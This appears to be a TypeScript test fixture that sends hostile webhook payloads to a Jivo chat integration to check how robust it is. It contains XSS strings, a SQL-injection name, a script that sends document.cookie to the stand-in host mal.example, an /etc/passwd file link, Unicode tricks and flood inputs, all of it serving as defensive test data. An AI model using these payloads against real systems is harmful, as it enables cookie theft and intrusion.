import { acceptedBody, finishedBody, updatedBody, type Body } from './bodies'
import type { Setting, Step } from './scenes'

const HUGE_TEXT = 150_000
const MANY_MESSAGES = 400

/**
 * A visitor who means no good, and a Jivo that keeps none of its promises: markup where a name belongs,
 * addresses that would run scripts, every type another one, a text of a book's length.
 */
export function hostileScene({ startAt, talk, agents: [agent] }: Setting): Step[] {
  const person = { ...talk.person, name: '<img src=x onerror="alert(1)"> Robert\'); DROP TABLE contacts;--' }
  const evil = { ...talk, person }
  const markup: Body = {
    ...acceptedBody(evil, agent),
    page: { url: 'javascript:alert(document.cookie)', title: '</title><script>alert(2)</script>' },
    tags: [{ id: '1', title: '"><svg onload=alert(3)>' }, 'texto solto', null],
    user_token: 'x'.repeat(5_000),
  }
  const oddTypes: Body = {
    ...updatedBody(evil, agent),
    chat_id: String(talk.chatId),
    visitor: {
      name: ['Zé', 'Ninguém'],
      email: { address: person.email },
      phone: Number(person.phone),
      number: person.number,
      chats_count: '2',
      social: null,
    },
    session: [],
    page: 'about:blank',
    agent: { id: Number(agent.id), name: null, email: ` ${agent.email?.toUpperCase()} ` },
    organization: [],
    tags: { '0': { id: 7, title: 'objeto em vez de lista' } },
    department: 'Vendas',
    desconhecido: { fundo: [[[{ mais: 'fundo' }]]] },
  }
  const seconds = Math.floor(startAt.getTime() / 1000)
  const messages = [
    {
      message: '<script>fetch("//mal.example/?"+document.cookie)</script>',
      timestamp: String(seconds),
      type: 'visitor',
    },
    {
      message: 'texto virado: \u202Eotxet\u202C, nulo: \u0000, zalgo: h\u0335\u0321o\u0334l\u0337a\u0338',
      timestamp: seconds * 1000,
      type: 'visitor',
    },
    {
      message: '[clique aqui](javascript:alert(4)) file:///etc/passwd',
      timestamp: null,
      type: 'agent',
      agent_id: agent.id,
    },
    { message: 'ã'.repeat(HUGE_TEXT), timestamp: seconds + 5, type: 'visitor' },
    ...Array.from({ length: MANY_MESSAGES }, (_, index) => ({
      message: `flood ${index}`,
      timestamp: seconds + 6 + index,
      type: 'visitor',
    })),
    { message: { text: 'texto dentro de um objeto' }, timestamp: -1, type: 'bot' },
    'nem é uma mensagem',
  ]
  const huge: Body = {
    ...finishedBody(evil, [agent], []),
    chat: { messages, blacklisted: 'false', rate: 5 },
    html_messages: '<b>não</b>',
  }
  return [
    { key: 'markup', afterMs: 0, body: markup },
    { key: 'oddTypes', afterMs: 10_000, body: oddTypes },
    { key: 'huge', afterMs: 20_000, body: huge },
  ]
}
